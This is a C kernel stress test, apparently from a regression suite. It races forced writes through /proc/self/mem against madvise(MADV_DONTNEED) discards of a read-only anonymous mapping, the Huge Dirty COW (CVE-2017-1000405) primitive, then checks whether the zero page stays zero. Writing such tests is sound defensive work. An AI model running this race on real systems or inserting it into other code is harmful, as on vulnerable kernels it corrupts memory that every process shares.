/*
 * hugedirtycow.c - Huge Dirty COW (CVE-2017-1000405), with small pages.
 *
 * Claim:  memory that was never written reads as zeros, whoever wrote by
 *         force into his own read-only mapping of such memory.
 * Method: a child maps anonymous memory read-only.  One thread writes to it
 *         through /proc/self/mem; another one discards it and then reads it
 *         the same way, which brings the zero page.
 * Oracle: its parent maps fresh memory and finds zeros only.  And before the
 *         threads start, one forced write is found in the mapping.
 * -X:     the parent looks at the memory that the child writes to.
 */
#include "libstress.h"

#include <fcntl.h>

/* Far behind, where no program expects anything in a page of zeros. */
enum { WORD = 4000 / sizeof(long) };

static unsigned long *map;
static int mem;

static bool forced_write(void)
{
	unsigned long word = 0x2a2a;

	return pwrite(mem, &word, sizeof(word), (long)&map[WORD]) ==
	       sizeof(word);
}

static void discard_and_read(void)
{
	unsigned long word;

	stress_check(madvise(map, PAGE, MADV_DONTNEED) == 0, "madvise: %s",
		     strerror(errno));
	stress_check(pread(mem, &word, sizeof(word), (long)&map[WORD]) ==
		     sizeof(word), "read memory: %s", strerror(errno));
}

static void *racer(void *arg)
{
	for (int i = 0; i < 200 && !stress_failed(); i++) {
		if (arg != NULL)
			discard_and_read();
		else
			stress_check(forced_write(), "write to memory: %s",
				     strerror(errno));
	}
	return NULL;
}

static void attack(void)
{
	mem = open("/proc/self/mem", O_RDWR);
	if (mem < 0)
		bail_out("/proc/self/mem: %s", strerror(errno));
	stress_check(forced_write() && map[WORD] != 0,
		     "a forced write is not seen in the mapping");
	while (stress_go_on()) {
		stress_threads(2, racer);
		stress_round();
	}
}

static void check_zeros(void)
{
	unsigned long *fresh = stress.wrong ? map : stress_map(PAGE, MAP_PRIVATE);

	for (size_t i = 0; i < PAGE / sizeof(*fresh); i++)
		if (!stress_check(*(volatile unsigned long *)&fresh[i] == 0,
				  "the zero page is not zero: word %zu is %#lx",
				  i, fresh[i]))
			break;
	if (!stress.wrong)
		munmap(fresh, PAGE);
}

int main(int argc, char **argv)
{
	int flags = MAP_ANONYMOUS;

	stress_begin(argc, argv, 2, "memory that nobody wrote reads as zeros");
	flags |= stress.wrong ? MAP_SHARED : MAP_PRIVATE;
	map = mmap(NULL, PAGE, PROT_READ | (stress.wrong ? PROT_WRITE : 0),
		   flags, -1, 0);
	if (map == MAP_FAILED)
		bail_out("mmap: %s", strerror(errno));
	if (tap_fork() == 0) {
		attack();
		_exit(0);
	}
	while (stress_go_on()) {
		check_zeros();
		usleep(1000);
	}
	stress_reap();
	check_zeros();
	return stress_end();
}
